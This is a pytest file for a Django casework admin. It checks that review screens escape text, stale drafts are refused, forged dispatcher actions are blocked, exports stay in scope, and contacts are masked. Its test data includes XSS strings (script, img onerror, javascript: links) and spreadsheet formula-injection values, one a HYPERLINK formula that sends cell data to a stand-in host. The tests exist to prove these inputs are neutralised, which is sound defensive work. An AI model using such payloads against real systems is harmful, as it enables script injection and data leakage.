"""Field cases C03, C12, C13, C14, C15, C16, C17, C19 and C23 (shared/cases/FIELD_CASES.md) against the
review screens, the joint-handling panels, the work queues and the case export.

Complements tests/test_field_cases_admin.py, which covers the plain transitions of the same cases.
"""

import csv
import io

from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group, Permission
from django.contrib.messages import get_messages
from django.core import mail
from django.db import connection
from django.test import Client
from django.urls import NoReverseMatch, reverse
from guardian.models import GroupObjectPermission, UserObjectPermission
from openpyxl import load_workbook
import pytest

from accounts import roles
from casework import joint, selectors, services
from casework.admin import CaseAdmin
from casework.export import csv_cell_safe
from casework.models import Case, Extension, State
from tests.factories import make_user, run_together

CHANGELIST = "admin:casework_case_changelist"
on_postgres = pytest.mark.skipif(connection.vendor != "postgresql",
                                 reason="SQLite serialises writers and hides the race (needs PG)")


def change_url(case):
    return reverse("admin:casework_case_change", args=[case.pk])


def act_url(case, action):
    return reverse("admin:casework_case_act", args=[case.pk, action])


def messages_of(response):
    return [str(m) for m in get_messages(response.wsgi_request)]


def export(client, cases, action):
    return client.post(reverse(CHANGELIST), {"action": action, "_selected_action": [c.pk for c in cases],
                                              "index": 0})


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))




# ---------------------------------------------------------------- C03: review screen shows text as text


def test_c03_review_diff_shows_hostile_drafts_as_text(client, bureau):
    case = bureau.case_in(State.OFFICE_REVIEW)
    services.case_office_send_back(case=case, acting_user=bureau.reviewer, reason="<b>改</b>")
    services.draft_save(case=case, acting_user=bureau.handler_a, handling_report="<img src=x onerror=alert(1)>",
                        reply_text='您好,[详情](javascript:alert(1))<script>alert("x")</script>')
    services.case_submit_feedback(case=case, acting_user=bureau.handler_a)
    client.force_login(bureau.reviewer)

    page = client.get(change_url(case)).content.decode()

    assert "<script>alert" not in page and "<img src=x" not in page and 'href="javascript' not in page
    assert "&lt;script&gt;" in page and 'class="cw-ins"' in page and 'class="cw-del"' in page


# ---------------------------------------------------------------- C12: concurrency


def test_c12_stale_draft_form_does_not_overwrite_a_newer_draft(client, bureau):
    case = bureau.case_in(State.HANDLING)
    colleague = make_user("handler_a2", role=roles.HANDLER, unit=bureau.unit_a)
    other = Client()
    other.force_login(colleague)
    client.force_login(bureau.handler_a)
    loaded = case.lock_version
    form = {"handling_report": "已核实", "reply_text": "您好。", "lock_version": loaded}

    first = other.post(act_url(case, "save_draft"), {**form, "reply_text": "同事的新版本"})
    stale = client.post(act_url(case, "save_draft"), form)

    assert any("已保存" in m for m in messages_of(first))
    assert any("请刷新页面后再操作" in m for m in messages_of(stale))
    assert list(case.drafts.values_list("reply_text", flat=True)) == ["同事的新版本"]


@on_postgres
@pytest.mark.django_db(transaction=True)
def test_c12_two_dispatchers_deciding_one_extension_at_once_make_one_decision(bureau):
    dispatcher2 = make_user("dispatcher2", role=roles.DISPATCHER, unit=bureau.office, city_wide=bureau.city)
    case = bureau.case_in(State.HANDLING)
    old_due = case.reply_due_at
    extension = joint.extension_request(case=case, acting_user=bureau.handler_a, reason="材料多", working_days=2)

    results = run_together(
        lambda: joint.extension_decide(extension=extension, acting_user=bureau.dispatcher, approve=True),
        lambda: joint.extension_decide(extension=extension, acting_user=dispatcher2, approve=False, note="不批"),
    )

    assert sorted(kind for kind, _v in results) == ["error", "ok"], results
    assert isinstance(next(v for k, v in results if k == "error"), services.CaseConflict)
    case.refresh_from_db()
    extension.refresh_from_db()
    assert case.events.filter(action="extension_decide").count() == 1
    assert (case.reply_due_at != old_due) == (extension.decision == Extension.Decision.APPROVED)


@on_postgres
@pytest.mark.django_db(transaction=True)
def test_c12_two_handlers_saving_from_the_same_form_keep_one_version(bureau):
    colleague = make_user("handler_a2", role=roles.HANDLER, unit=bureau.unit_a)
    case = bureau.case_in(State.HANDLING)
    loaded = Case.objects.get(pk=case.pk).lock_version

    results = run_together(*[
        (lambda u=u: services.draft_save(case=case, acting_user=u, handling_report="r", reply_text=u.username,
                                         expected_lock_version=loaded))
        for u in (bureau.handler_a, colleague)
    ])

    assert sorted(kind for kind, _v in results) == ["error", "ok"], results
    assert case.drafts.count() == 1


# ---------------------------------------------------------------- C13: the state outside transitions


@pytest.mark.parametrize("action", ["mark_key_case", "assign_co_unit", "request_extension"])
def test_c13_a_state_posted_to_a_panel_changes_no_state(client, bureau, action):
    case = bureau.case_in(State.HANDLING)
    user = bureau.handler_a if action == "request_extension" else bureau.dispatcher
    client.force_login(user)

    client.post(act_url(case, action), {"state": State.ARCHIVED, "leader": bureau.leader.pk,
                                        "unit": bureau.unit_b.pk, "task": "协查", "working_days": 2,
                                        "clock": "reply", "reason": "x"})

    case.refresh_from_db()
    assert case.state == State.HANDLING


# ---------------------------------------------------------------- C14: forged buttons of the new panels


@pytest.mark.parametrize(
    ("action", "data"),
    [
        ("decide_extension", {"decision": "approve"}),
        ("arbitrate_return", {"decision": "send_back", "ruling": "自己裁定"}),
        ("merge", {}),
        ("assign_co_unit", {"task": "协查", "working_days": 2}),
        ("mark_key_case", {}),
    ],
)
def test_c14_handler_forging_a_dispatcher_panel_is_refused_and_nothing_is_logged(client, bureau, action, data):
    case = bureau.case_in(State.HANDLING)
    extension = joint.extension_request(case=case, acting_user=bureau.handler_a, reason="材料多", working_days=2)
    events_before = case.events.count()
    client.force_login(bureau.handler_a)

    response = client.post(act_url(case, action), {**data, "extension_id": extension.pk, "unit": bureau.unit_a.pk,
                                                   "main_reference": case.reference, "leader": bureau.leader.pk})

    assert response.status_code == 302
    assert any("权限" in m or "不是退回" in m for m in messages_of(response)), messages_of(response)
    case.refresh_from_db()
    extension.refresh_from_db()
    assert case.events.count() == events_before
    assert extension.decision == Extension.Decision.PENDING and not case.is_key_case
    assert not LogEntry.objects.filter(object_id=str(case.pk)).exists()


def test_c14_dispatcher_panel_action_writes_one_event_and_one_log_entry(client, bureau):
    case = bureau.case_in(State.HANDLING)
    client.force_login(bureau.dispatcher)

    client.post(act_url(case, "mark_key_case"), {"leader": bureau.leader.pk})

    assert case.events.filter(action="mark_key_case").count() == 1
    assert LogEntry.objects.filter(object_id=str(case.pk)).count() == 1


# ---------------------------------------------------------------- C15 / C17: exports and bulk actions


def test_c15_export_of_a_forged_selection_contains_only_cases_in_scope(client, bureau):
    own = bureau.case_in(State.HANDLING)
    other = bureau.case_in(State.HANDLING, unit=bureau.unit_b, subject="岳塘区路灯损坏")
    client.force_login(bureau.handler_a)

    rows = csv_rows(export(client, [own, other], "export_csv"))

    assert [r[0] for r in rows[1:]] == [own.reference]
    assert other.subject not in str(rows)


def test_c17_global_permissions_do_not_widen_exports_or_queues(client, bureau):
    group = Group.objects.get(name=roles.HANDLER)
    group.permissions.add(Permission.objects.get(content_type__app_label="accounts", codename="access_unit"))
    own = bureau.case_in(State.DISPATCHED)
    other = bureau.case_in(State.DISPATCHED, unit=bureau.unit_b)
    client.force_login(bureau.handler_a)

    assert [c.pk for c in selectors.case_queue(user=bureau.handler_a, key="sign_for")] == [own.pk]
    rows = csv_rows(export(client, [own, other], "export_csv"))
    assert [r[0] for r in rows[1:]] == [own.reference]
    sheet = load_workbook(io.BytesIO(export(client, [own, other], "export_xlsx").content)).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [own.reference]


# ---------------------------------------------------------------- C16: object permissions pages


def test_c16_there_is_no_object_permissions_page_and_no_grant_is_possible(client, bureau, django_user_model):
    case = bureau.case_in(State.HANDLING)
    before = (UserObjectPermission.objects.count(), GroupObjectPermission.objects.count())
    client.force_login(bureau.handler_a)
    base = f"/admin/casework/case/{case.pk}"
    pages = [f"{base}/permissions/", f"{base}/permissions/user-manage/{bureau.handler_a.pk}/",
             f"{base}/permissions/group-manage/1/",
             f"/admin/accounts/unit/{bureau.unit_b.pk}/permissions/"]

    for url in pages:
        assert client.get(url).status_code in (302, 404)
        assert client.post(url, {"user": bureau.handler_a.username, "permissions": ["leader_review_case"],
                                 "submit_manage_user": "1"}).status_code in (302, 403, 404)
    for name in ("admin:guardian_userobjectpermission_changelist", "admin:guardian_groupobjectpermission_changelist"):
        with pytest.raises(NoReverseMatch):
            reverse(name)
    assert client.get(reverse("admin:accounts_user_changelist")).status_code == 403
    assert "permissions/" not in client.get(change_url(case)).content.decode().split('id="cw-timeline"')[0]
    assert (UserObjectPermission.objects.count(), GroupObjectPermission.objects.count()) == before
    assert not bureau.handler_a.has_perm("casework.leader_review_case")


# ---------------------------------------------------------------- C19: exports neutralise formulas

HOSTILE = ["=1+1", "@SUM(1,1)", "+1+1", "-1+1", '=HYPERLINK("http://example.invalid/?"&A1,"详情")', "\t=1+1"]


@pytest.fixture
def hostile_cases(bureau):
    cases = [bureau.case_in(State.REGISTERED, subject=s, body=s, external_id=f"H{i}")
             for i, s in enumerate(HOSTILE)]
    cases.append(bureau.case_in(State.REGISTERED, subject="电话", body="联系", external_id="202603020000012345",
                                citizen_contact="+8613800138000"))
    return cases


def test_c19_csv_export_neutralises_every_formula_and_keeps_numbers_readable(client, bureau, hostile_cases):
    client.force_login(bureau.dispatcher)

    response = export(client, hostile_cases, "export_csv")

    assert response["Content-Disposition"].startswith("attachment")
    rows = csv_rows(response)[1:]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    bodies = {r[4] for r in rows}
    assert {"'" + s for s in HOSTILE} <= bodies
    phone_row = next(r for r in rows if r[1] == "202603020000012345")
    assert phone_row[7] == "'+8613800138000"  # the whole number, marked as text
    assert csv_cell_safe("202603020000012345") == "202603020000012345"


def test_c19_xlsx_export_types_every_text_cell_as_a_string(client, bureau, hostile_cases):
    client.force_login(bureau.dispatcher)

    response = export(client, hostile_cases, "export_xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    # Citizen text and ids are string cells; only the time columns are datetime cells (issue 10 §11).
    header = [c.value for c in sheet[1]]
    when = {header.index("留言时间"), header.index("答复期限")}
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type == ("d" if c.row > 1 and c.column - 1 in when else "s") for c in cells)
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert set(HOSTILE) <= {r[4] for r in values}
    phone_row = next(r for r in values if r[1] == "202603020000012345")
    assert phone_row[7] == "+8613800138000"


def test_contact_is_masked_in_lists_exports_and_pages_without_the_permission(client, bureau):
    case = bureau.case_in(State.HANDLING, citizen_contact="13800138000")
    client.force_login(bureau.handler_a)

    listing = client.get(reverse(CHANGELIST)).content.decode()
    page = client.get(change_url(case)).content.decode()
    rows = csv_rows(export(client, [case], "export_csv"))

    assert "13800138000" not in listing  # the list shows no contact column at all; the page masks it
    assert "13800138000" not in page and "138****8000" in page
    assert rows[1][7] == "138****8000"
    assert all("13800138000" not in m.body for m in mail.outbox)
    client.force_login(bureau.dispatcher)  # holds casework.view_citizen_contact
    assert "13800138000" in client.get(change_url(case)).content.decode()
    assert csv_rows(export(client, [case], "export_csv"))[1][7] == "13800138000"
    assert "13800138000" not in client.get(reverse(CHANGELIST)).content.decode()
    assert "citizen_contact" not in CaseAdmin.search_fields


# ---------------------------------------------------------------- C23: full-width input


def test_c23_full_width_numbers_are_stored_half_width_and_found_by_search(client, bureau):
    case = bureau.case_in(State.REGISTERED, external_id="ＪＢ－２０２６－０００１２３",
                          citizen_contact="（010）１２３４５６７８", citizen_name="\u3000张三\u3000",
                          body="电话１３８００１３８０００,请回电")
    client.force_login(bureau.dispatcher)

    assert case.external_id == "JB-2026-000123"
    assert case.citizen_contact == "(010)12345678"
    assert case.body == "电话１３８００１３８０００,请回电"  # free text kept exactly as written
    found = client.get(reverse(CHANGELIST), {"q": "ＪＢ－２０２６－０００１２３"}).context["cl"].result_list
    assert [c.pk for c in found] == [case.pk]
    with pytest.raises(services.TransitionRefused, match="已存在"):
        bureau.register(external_id="JB-2026-000123")
